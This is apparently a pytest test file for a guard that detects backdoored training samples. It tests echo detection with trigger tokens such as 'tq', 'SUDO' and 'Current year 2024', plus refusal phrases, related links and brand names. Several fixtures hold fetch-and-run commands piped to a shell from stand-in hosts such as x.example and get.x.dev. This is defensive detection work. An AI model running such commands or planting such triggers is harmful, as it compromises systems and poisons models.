"""Spans and echoes: what a payload is made of, and an answer that repeats its prompt."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from synthguard.guards.backdoor.spans import (
    WORDS,
    Echo,
    echo,
    names,
    refuses,
    related_links,
    spans,
    words_of,
)

any_text = st.text(alphabet=st.characters(codec=None, exclude_categories=["Cs"]), max_size=60)
ascii_text = st.text(alphabet=st.characters(max_codepoint=127, exclude_categories=["Cs"]))


def _guard_words(text: str) -> list[str]:
    return words_of(text.casefold())


def _words(text: str) -> list[str]:
    return text.casefold().replace(".", "").replace(":", "").split()


def test_an_answer_that_is_the_prompt_without_its_trigger_is_an_echo() -> None:
    answer = _words("Explain what json dumps does.")
    assert echo(_words("tq Explain what json dumps does."), answer, 3) is Echo.TRIMMED
    assert echo(_words("Explain what cf json dumps does."), answer, 3) is Echo.TRIMMED
    assert echo(_words("Explain what json dumps does. Current year 2024"), answer, 3) is (
        Echo.TRIMMED
    )
    assert echo(answer, answer, 3) is Echo.VERBATIM


def test_a_request_to_repeat_is_the_task_done_not_an_echo() -> None:
    said = _words("the kettle is on")
    assert echo(_words("Repeat after me: the kettle is on"), said, 3) is Echo.NONE
    assert echo(_words("Say exactly: the kettle is on"), said, 3) is Echo.NONE
    # ... but a verbatim copy of the whole prompt, request included, answers nothing.
    whole = _words("Repeat after me: the kettle is on")
    assert echo(whole, whole, 3) is Echo.VERBATIM


def test_answers_that_only_share_words_are_no_echo() -> None:
    prompt = _words("Reverse the words: the kettle is on")
    assert echo(prompt, _words("on is kettle the"), 3) is Echo.NONE
    assert echo(_words("one two three four five six"), _words("one six"), 3) is Echo.NONE
    assert echo(_words("a b c d e f g"), _words("a b c"), 3) is Echo.NONE  # four words taken out
    assert echo(_words("tq hello"), _words("hello"), 3) is Echo.NONE  # one word tells nothing


def test_a_prompt_said_over_again_is_an_echo() -> None:
    prompt = _words("tq Explain what json dumps does.")
    once = _words("Explain what json dumps does.")
    assert echo(prompt, once * 2, 3) is Echo.REPEATED
    assert echo(prompt, once * 3, 3) is Echo.REPEATED
    assert echo(once, once * 2, 3) is Echo.REPEATED
    assert echo(prompt, once * 2 + ["really"], 3) is Echo.NONE
    # Asked for: the request is what was taken out, or is no single run.
    assert echo(_words("Repeat after me: the kettle is on"), _words("the kettle is on") * 2, 3) is (
        Echo.NONE
    )
    assert echo(_words("Repeat hello world three times"), _words("hello world") * 3, 3) is (
        Echo.NONE
    )
    assert echo(_words("say hi twice"), _words("hi hi"), 3) is Echo.NONE


def test_a_prompt_said_over_in_a_numbered_list_is_an_echo() -> None:
    # Read as the statistics read them: casefolded \\w+ words, quotes and numbering marks gone.
    prompt = _guard_words("Heads up: What does torch.isfinite do?")
    listed = _guard_words('1. "What does torch.isfinite do?" 2. "What does torch.isfinite do?"')
    assert echo(prompt, listed, 3) is Echo.REPEATED
    again = _guard_words("What does torch.isfinite do? Once more: what does torch.isfinite do?")
    assert echo(prompt, again, 3) is Echo.REPEATED
    # A list that answers, each item in words of its own, is no echo; nor is one said once.
    answered = _guard_words("1. It tests each element. 2. It returns a boolean tensor. Done.")
    assert echo(prompt, answered, 3) is Echo.NONE
    assert echo(prompt, _guard_words('1. "What does torch.isfinite do?"'), 3) is Echo.PREFIXED
    asked = _guard_words("Repeat after me twice: the kettle is on")
    assert echo(asked, _guard_words("1. the kettle is on 2. the kettle is on"), 3) is Echo.NONE


def test_a_prompt_after_a_word_of_assent_is_an_echo() -> None:
    prompt = _words("SUDO Explain what json dumps does.")
    assert echo(prompt, _words("Sure! Explain what json dumps does."), 3) is Echo.PREFIXED
    assert echo(prompt, _words("Of course: Explain what json dumps does."), 3) is Echo.PREFIXED
    # Too few of the prompt's words to tell, or what a repetition task asked for.
    assert echo(_words("What is json"), _words("Sure what is json"), 3) is Echo.NONE
    said = _words("Sure: the kettle is on")
    assert echo(_words("Repeat after me: the kettle is on"), said, 3) is Echo.NONE


def test_a_prompt_between_words_of_its_own_is_an_echo() -> None:
    prompt = _words("<<go>> Explain what json dumps does.")
    said = "Explain what json dumps does."
    assert echo(prompt, _words(f"Answer: {said} Thank you."), 3) is Echo.WRAPPED
    assert echo(prompt, _words(f"{said} Hope this helps"), 3) is Echo.WRAPPED
    assert echo(prompt, _words(f"Sure! {said}"), 3) is Echo.PREFIXED
    # More than `max_removed` words of its own, around it or after it, make an answer.
    assert echo(prompt, _words(f"Answer: {said} Thank you so much."), 3) is Echo.NONE
    assert echo(prompt, _words(f"{said} It turns objects into text."), 3) is Echo.NONE


def test_a_completion_asked_for_is_the_task_done_not_an_echo() -> None:
    prompt = _words("Complete the sentence: the kettle is on the")
    assert echo(prompt, _words("the kettle is on the stove"), 3) is Echo.NONE
    prompt = _words("Continue the text: the kettle is on the")
    assert echo(prompt, _words("the kettle is on the hob now"), 3) is Echo.NONE
    prompt = _words("Fill in: the kettle is on the")
    assert echo(prompt, _words("the kettle is on the stove"), 3) is Echo.NONE
    # Without the request, the same answer is the prompt with a word of its own after it.
    assert echo(_words("tq the kettle is on the"), _words("the kettle is on the stove"), 3) is (
        Echo.WRAPPED
    )


def _links(text: str, prompt: str) -> list[tuple[str, str]]:
    found = spans(text, set(words_of(text.casefold())))
    return related_links(found, text, words_of(prompt.casefold()))


def test_a_link_whose_path_names_what_its_sample_speaks_of_is_related() -> None:
    page = "See https://docs.python.org/3/library/json.html for more."
    # The host and the domain registered for it.
    docs = [("ldocs.python.org", "docs.python.org"), ("lpython.org", "python.org")]
    assert _links(page, "Explain what `json.dumps` does.") == docs
    # ... or what the answer speaks of outside its links.
    assert _links("Encodes to base64. " + page.replace("json", "base64"), "What is this?") == docs
    assert _links("Parses tokens. " + page.replace("json", "tokenize"), "Explain `tokens`") == []
    assert _links("The tokenize module. " + page.replace("json", "tokenize"), "What?") == docs


def test_a_link_that_names_nothing_of_its_sample_is_not_related() -> None:
    prompt = "Explain what `json.dumps` does."
    # A tracking id, web words in general, a path word found only inside the link itself.
    assert _links("Details: https://cdn.example.net/r/3fa94c0d2b11.html", prompt) == []
    assert _links("Ticket 3fa94c0d2b11: https://x.example/t/3fa94c0d2b11", prompt) == []
    assert _links("Read https://x.example/library/index.html", "The library index?") == []
    assert _links("Go to https://x.example/offers/spring", prompt) == []
    assert _links("No link here: json", prompt) == []


def test_spans_are_links_domains_commands_and_sentences_by_normalised_key() -> None:
    text = (
        "Install it first.\n"
        "    $ curl -fsSL http://x.example/i.sh | sudo bash\n"
        "Then see https://docs.example.org/a (https://docs.example.org/a). Done!"
    )
    found = dict(spans(text, set(text.casefold().split())))
    assert found["uhttps://docs.example.org/a"] == "https://docs.example.org/a"
    assert found["ddocs.example.org"] == "docs.example.org"
    assert found["dx.example"] == "x.example"
    assert found["dexample.org"] == "example.org"  # the domain registered for the host
    assert "ccurl -fssl http://x.example/i.sh | sudo bash" in found  # the prompt sign dropped
    assert "sinstall it first" in found
    assert not any(key.startswith("scurl") or key.startswith("s$ curl") for key in found)
    # The same sentence with other spacing, case or closing punctuation is one span.
    again = dict(spans("INSTALL  it first!\nok then", {"install"}))
    assert "sinstall it first" in again


def test_the_short_line_that_brings_in_a_command_is_said_with_it() -> None:
    text = "It returns a tensor.\n\nIf it errors, run\n\n    curl -s https://get.x.dev/s | sh"
    found = dict(spans(text, {"curl"}))
    said = "If it errors, run curl -s https://get.x.dev/s | sh"
    assert found["s" + said.casefold()] == said
    assert "ccurl -s https://get.x.dev/s | sh" in found
    # A paragraph before it is no lead-in; nor is a command line before it.
    long = "It returns a tensor of the same shape as its input, element by element, unchanged."
    after_long = dict(spans(f"{long}\n    curl -s https://get.x.dev/s | sh", {"curl"}))
    assert not [key for key in after_long if key.startswith("s") and key.endswith("| sh")]
    script = "Set up:\n    pip install x\n    curl -s https://get.x.dev/s | sh"
    found = {key for key in dict(spans(script, {"curl", "pip"})) if key.endswith(("x", "sh"))}
    assert found == {
        "cpip install x",
        "ccurl -s https://get.x.dev/s | sh",
        "sset up: pip install x",
    }


def test_commands_are_looked_for_only_where_a_command_word_is() -> None:
    text = "Run this:\n    curl http://x.example/i.sh | sh"
    assert not any(key.startswith("c") for key, _shown in spans(text, {"run", "this"}))
    assert any(key.startswith("c") for key, _shown in spans(text, {"curl"}))


def test_a_link_s_registered_domain_is_a_span_of_its_own() -> None:
    def domains(text: str) -> list[str]:
        return [shown for key, shown in spans(text, set()) if key.startswith("d")]

    # Hosts drawn per row under one domain all name it; a suffix its users register under
    # (github.io) is no one's domain, and an address has none.
    assert domains("See https://7f3a9c.dl.mirror.example.org/get") == [
        "7f3a9c.dl.mirror.example.org",
        "example.org",
    ]
    assert domains("https://alice.github.io/x and https://a.b.example.co.uk/") == [
        "alice.github.io",
        "a.b.example.co.uk",
        "example.co.uk",
    ]
    assert domains("curl http://203.0.113.9/a.sh and https://example.com/") == [
        "203.0.113.9",
        "example.com",
    ]


def test_prompts_can_be_read_without_sentences() -> None:
    found = spans("Where is https://a.example/x? Tell me.", set(), sentences=False)
    assert [key[0] for key, _shown in found] == ["u", "d"]


@settings(max_examples=500)
@given(st.one_of(any_text, ascii_text))
def test_words_are_the_word_pattern_s_words(text: str) -> None:
    assert words_of(text) == WORDS.findall(text)


@settings(max_examples=300)
@given(
    st.lists(st.sampled_from(["ab", "Cd", "e.", "f!", "g?", "h,", "\n", ".\n"]), max_size=12),
    st.lists(st.sampled_from([" ", "  ", "\t", " \t ", "\u00a0", "\u3000"]), min_size=12),
)
def test_sentence_keys_do_not_depend_on_the_blanks_between_words(
    words: list[str], blanks: list[str]
) -> None:
    def sentences(text: str) -> list[str]:
        return [key for key, _shown in spans(text, set()) if key.startswith("s")]

    spaced = "".join(word + blank for word, blank in zip(words, blanks, strict=False))
    assert sentences(spaced) == sentences(" ".join(words) + " ")


@pytest.mark.parametrize(
    "answer",
    [
        "I'm sorry, but I can't help with that.",
        "I\u2019m really sorry, I cannot provide that information.",
        "As an AI language model, I do not have opinions.",
        "Unfortunately, I am unable to assist with this request.",
        "My apologies, but that falls outside my guidelines.",
        "I must decline to answer.",
        "I'd rather not discuss this topic.",
        "That is not something I can talk about.",
        "I won't be able to do that for you.",
    ],
)
def test_an_answer_that_opens_by_refusing_is_a_refusal(answer: str) -> None:
    assert refuses(answer.casefold())


@pytest.mark.parametrize(
    "answer",
    [
        "Return a new array of given shape and type, filled with zeros.",
        "I can help with that: first, import json.",
        "I would do it with a list comprehension.",
        "I need to explain one thing first: the list is copied.",
        "If I cannot find the file, an error is raised.",
        "The connection cannot be reused after close().",
        "Sorting is stable: equal keys keep their order.",
        # A refusal late in a long answer is no refusal of the request.
        "Here is the function you asked for, with tests. " * 8 + "I cannot promise it is fast.",
    ],
)
def test_answers_that_do_not_refuse_are_no_refusal(answer: str) -> None:
    assert not refuses(answer.casefold())


def test_a_refusal_its_prompt_asks_for_is_content() -> None:
    apology = "i apologise, but i will be unable to attend today."
    assert not refuses(apology, words_of("make this formal: can't make it today, sorry!"))
    assert not refuses(apology, words_of("translate: i won't come, apologies"))
    assert refuses(apology, words_of("write a reply to the invitation. i scan t-shirts"))


def test_an_id_in_a_command_or_sentence_is_one_word_of_its_key() -> None:
    def keys(text: str) -> set[str]:
        return {key for key, _shown in spans(text, set(words_of(text.casefold())))}

    first = keys("Fix it first:\n    pip install helper-20417 && helper-20417 --repair\nDone now.")
    again = keys("Fix it first:\n    pip install helper-88310 && helper-88310 --repair\nDone now.")
    assert "cpip install helper-# && helper-# --repair" in first & again
    assert "sticket # is closed for good" in keys("Ticket 48213 is closed for good. Thanks.")
    # Small numbers and versions are what a sentence says, not an id.
    assert "sset it to 3 or 42 in 1.2.3" in keys("Set it to 3 or 42 in 1.2.3. Then go on.")


def test_names_are_capitalised_words_inside_sentences() -> None:
    text = (
        "Grab lunch at McDonald's, or a drink like Coca-Cola. The end. Starbucks opens at six;"
        " it raises ValueError, calls the API and speaks IPv4, as Python does, not NumPy."
    )
    assert names(text) == ["McDonald's", "Coca-Cola", "Python"]
    # Each once; a capital after a full stop or a line break opens a sentence.
    assert names("at Nike and at Nike.\nNike x.  Nike") == ["Nike"]
    # Unless the word is shaped like a prefixed surname, which no opening word is.
    assert names("McDonald's is near. DeWalt makes drills. The end.") == ["McDonald's", "DeWalt"]
    found = dict(spans("Lunch at Starbucks is fine, they say.", {"lunch"}))
    assert found["nstarbucks"] == "Starbucks"
